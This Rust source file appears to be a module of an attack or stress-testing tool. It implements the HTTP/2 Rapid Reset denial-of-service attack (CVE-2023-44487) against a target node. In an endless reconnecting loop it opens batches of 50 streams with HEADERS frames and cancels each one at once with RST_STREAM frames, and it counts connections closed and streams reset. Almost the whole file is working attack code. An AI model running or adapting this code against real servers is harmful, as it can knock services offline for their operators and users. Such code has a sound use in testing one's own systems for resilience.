//! Rapid resets (CVE-2023-44487): streams that are opened and reset, as many as a node takes.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::time::sleep;

use super::Attack;
use super::frames::{END_HEADERS, END_STREAM, HEADERS, MEMBERS, RST_STREAM, SUBMIT, frame, request};

/// Streams between two turns.
const BATCH: u32 = 50;
/// What the reset says: the caller changed its mind.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Before the next connection.
const PAUSE: Duration = Duration::from_millis(500);
/// The odd ones reset only after the node has taken the streams up.
const TAKEN_UP: Duration = Duration::from_millis(5);

/// Begins again whenever the node ends the connection.
pub async fn run(attack: &Attack, node: SocketAddr, number: usize) {
    loop {
        attack.opening.turn().await;
        // an end is what a node answers
        let _ = reset(attack, node, number).await;
        attack.tally.one("connections closed for resets");
        sleep(PAUSE).await;
    }
}

async fn reset(attack: &Attack, node: SocketAddr, number: usize) -> io::Result<()> {
    let line = attack.dialler.greeted(node, number).await?;
    let _open = attack.tally.open();
    let (mut read, mut write) = split(line);
    let writing = async {
        let headers = [request(SUBMIT), request(MEMBERS)];
        let mut stream = 1_u32;
        loop {
            let streams: Vec<u32> = (0..BATCH).map(|place| stream.wrapping_add(place * 2)).collect();
            stream = stream.wrapping_add(BATCH * 2);
            let open = streams.iter().zip(headers.iter().cycle());
            let open: Vec<u8> = open
                .flat_map(|(stream, headers)| frame(HEADERS, END_HEADERS | END_STREAM, *stream, headers))
                .collect();
            let reset: Vec<u8> =
                streams.iter().flat_map(|stream| frame(RST_STREAM, 0, *stream, &CANCEL)).collect();
            attack.resetting.turn().await;
            write.write_all(&open).await?;
            if number % 2 == 1 {
                write.flush().await?;
                sleep(TAKEN_UP).await;
            }
            write.write_all(&reset).await?;
            write.flush().await?;
            attack.tally.many("streams opened and reset", streams.len());
        }
    };
    let reading = async {
        let mut buffer = [0; 4_096];
        while let Ok(1..) = read.read(&mut buffer).await {}
        Ok(())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}
